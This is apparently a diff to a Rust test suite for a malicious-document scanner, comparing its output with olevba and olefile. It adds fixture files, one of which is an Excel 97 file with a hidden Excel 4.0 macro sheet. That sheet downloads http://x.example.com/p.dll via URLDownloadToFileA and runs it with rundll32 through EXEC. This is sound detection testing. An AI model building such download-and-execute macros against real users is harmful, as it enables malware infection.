@@ -94,8 +94,12 @@ fn vba_and_pdf_match_olevba_and_pdfid() {
           % a comment with /JS inside\nxref\ntrailer << /Encrypt 6 0 R >>\nstartxref\n0\n%%EOF\ntrailing%%EOF\n"
             .to_vec(),
     ));
+    files.extend(office_metadata_and_xlm_samples(dir.path()));
     for (p, d) in &files {
         std::fs::write(p, d).unwrap();
+        if let Ok(keep) = std::env::var("NESTBOX_DOCREF_KEEP") {
+            std::fs::copy(p, std::path::Path::new(&keep).join(p.file_name().unwrap())).unwrap();
+        }
     }
     let paths: Vec<PathBuf> = files.iter().map(|(p, _)| p.clone()).collect();
     let want = reference(&paths);
@@ -124,6 +128,15 @@ fn vba_and_pdf_match_olevba_and_pdfid() {
             continue;
         }
         let office = &got.sections["office"];
+        check_metadata(name, office, &r["metadata"]);
+        if name.ends_with(".xls") {
+            check_xlm(name, office, r);
+            continue;
+        }
+        if r["macros"].as_array().unwrap().is_empty() {
+            assert!(office.get("Macro").is_none(), "{name}: {office}");
+            continue;
+        }
         let want_mods = r["macros"].as_array().unwrap();
         let code = office["Macro"]["Code"].as_object().expect("macros found");
         assert_eq!(code.len(), want_mods.len(), "{name}: module count");
@@ -160,4 +173,157 @@ fn vba_and_pdf_match_olevba_and_pdfid() {
             sus.len()
         );
     }
+}
+
+/// 2024-02-29 12:34:56.5 UTC as a FILETIME.
+const FILETIME: u64 = (1_709_210_096 + 11_644_473_600) * 10_000_000 + 5_000_000;
+
+/// A Word 97 file with both property sets, a docx with docProps, a PowerPoint 97 file
+/// with a VBA project in an ExOleObjStg record, and an Excel 97 file with a very hidden
+/// Excel 4.0 macro sheet calling EXEC, CALL and REGISTER.
+fn office_metadata_and_xlm_samples(dir: &std::path::Path) -> Vec<(PathBuf, Vec<u8>)> {
+    use docbuild::Prop;
+    let summary = docbuild::property_set_stream(
+        docbuild::FMTID_SUMMARY,
+        &[
+            (1, Prop::I2(1252)),
+            (2, Prop::Str("Quarterly invoice")),
+            (4, Prop::Str("J\u{e9}r\u{f4}me Author")),
+            (8, Prop::Str("Last Saver")),
+            (9, Prop::Str("7")),
+            (10, Prop::Time(36_000_000_000)),
+            (12, Prop::Time(FILETIME)),
+            (13, Prop::Time(FILETIME + 864_000_000_000)),
+            (14, Prop::I4(3)),
+            (15, Prop::I4(0)),
+            (18, Prop::Str("Microsoft Office Word")),
+            (19, Prop::I4(0)),
+        ],
+    );
+    let docsum = docbuild::property_set_stream(
+        docbuild::FMTID_DOCSUM,
+        &[
+            (1, Prop::I2(1252)),
+            (5, Prop::I4(12)),
+            (15, Prop::Str("ACME Corp")),
+            (16, Prop::Bool(false)),
+            (19, Prop::Bool(true)),
+            (23, Prop::I4(0x000f_0000)),
+        ],
+    );
+    let word = docbuild::with_metadata(docbuild::word97_with_macros(MODULES), &summary, &docsum);
+    let core = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><dc:title>Report &amp; Plan</dc:title><dc:subject></dc:subject><dc:creator>Alice</dc:creator><cp:lastModifiedBy>Bob</cp:lastModifiedBy><cp:revision>4</cp:revision><dcterms:created xsi:type="dcterms:W3CDTF">2024-01-02T03:04:05Z</dcterms:created><dcterms:modified xsi:type="dcterms:W3CDTF">2024-01-03T03:04:05Z</dcterms:modified></cp:coreProperties>"#;
+    let app = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes"><Template>Normal.dotm</Template><TotalTime>12</TotalTime><Pages>1</Pages><Application>Microsoft Office Word</Application><DocSecurity>0</DocSecurity><HeadingPairs><vt:vector size="2" baseType="variant"><vt:variant><vt:lpstr>Title</vt:lpstr></vt:variant></vt:vector></HeadingPairs><Company>ACME Corp</Company><AppVersion>16.0000</AppVersion></Properties>"#;
+    let docx = docbuild::docx_with_props(core, app);
+    let ppt = docbuild::ppt97_with_macros(&MODULES[1..2]);
+    let mut call = docbuild::ptg_str("urlmon");
+    call.extend(docbuild::ptg_str("URLDownloadToFileA"));
+    call.extend(docbuild::ptg_str("JJCCJJ"));
+    call.extend(docbuild::ptg_int(0));
+    call.extend(docbuild::ptg_str("http://x.example.com/p.dll"));
+    call.extend(docbuild::ptg_funcvar(5, 0x0096)); // CALL
+    let mut exec = docbuild::ptg_str("rundll32.exe p.dll,Start");
+    exec.extend(docbuild::ptg_funcvar(1, 0x006e)); // EXEC
+    let mut reg = docbuild::ptg_str("Kernel32");
+    reg.extend(docbuild::ptg_str("WinExec"));
+    reg.extend(docbuild::ptg_funcvar(2, 0x0095)); // REGISTER
+    let halt = docbuild::ptg_funcvar(0, 0x0036); // HALT
+    let xls = docbuild::xls_with_xlm("Macro1", true, &[call, exec, reg, halt]);
+    vec![
+        (dir.join("meta.doc"), word),
+        (dir.join("props.docx"), docx),
+        (dir.join("vba.ppt"), ppt),
+        (dir.join("xlm.xls"), xls),
+    ]
+}
+
+/// Metadata equals the reference exactly (both property sets, or both docProps parts).
+fn check_metadata(name: &str, office: &Value, want: &Value) {
+    let Some(want) = want.as_object().filter(|w| !w.is_empty()) else {
+        return;
+    };
+    for (k, v) in want {
+        assert_eq!(&office["Metadata"][k], v, "{name}: Metadata.{k}");
+    }
+    let n: usize = want
+        .values()
+        .map(|v| v.as_object().map_or(0, |o| o.len()))
+        .sum();
+    println!("{name}: {n} metadata properties agree with olefile / CAPE");
+}
+
+/// The XLM pass agrees with olevba's plugin_biff: macro sheets found with the same
+/// BOUNDSHEET description, and the same olevba suspicious keywords on the listing.
+fn check_xlm(name: &str, office: &Value, r: &Value) {
+    assert_eq!(r["xlm"], true, "{name}: olevba finds XLM");
+    let lines: Vec<&str> = r["xlm_lines"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|l| l.as_str().unwrap())
+        .collect();
+    let xlm = &office["XLM"];
+    for s in xlm["Sheets"].as_array().unwrap() {
+        // plugin_biff reads the name's flags byte as its first character and so drops
+        // the last one ("\0Sheet" for "Sheet1"): compare the part both print.
+        let sheet = s["name"].as_str().unwrap();
+        let desc = format!(
+            "{}, {} - ",
+            s["type"].as_str().unwrap(),
+            s["visibility"].as_str().unwrap()
+        );
+        let shown = &sheet[..sheet.len() - 1];
+        assert!(
+            lines
+                .iter()
+                .any(|l| l.contains(&desc) && l.ends_with(shown)),
+            "{name}: {desc:?}{sheet} not in {lines:#?}"
+        );
+    }
+    let funcs: BTreeSet<&str> = xlm["Formulas"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .flat_map(|f| {
+            f["functions"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .map(|x| x.as_str().unwrap())
+        })
+        .collect();
+    for f in ["CALL", "EXEC", "REGISTER", "HALT"] {
+        assert!(funcs.contains(f), "{name}: {f} in {funcs:?}");
+        assert!(
+            lines.iter().any(|l| l.contains(f)),
+            "{name}: olevba lists {f}: {lines:#?}"
+        );
+    }
+    let want: BTreeSet<String> = r["macros"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|m| m["stream"] == "xlm_macro.txt")
+        .flat_map(|m| {
+            m["suspicious"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .map(|k| k.as_str().unwrap().to_owned())
+        })
+        .collect();
+    let ours: BTreeSet<String> = office["Macro"]["Analysis"]["Suspicious"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|p| p[0].as_str().unwrap().to_owned())
+        .collect();
+    assert!(!want.is_empty());
+    assert_eq!(ours, want, "{name}: suspicious keywords of the XLM listing");
+    println!(
+        "{name}: XLM sheets, functions and {} keywords agree with olevba",
+        want.len()
+    );
 }
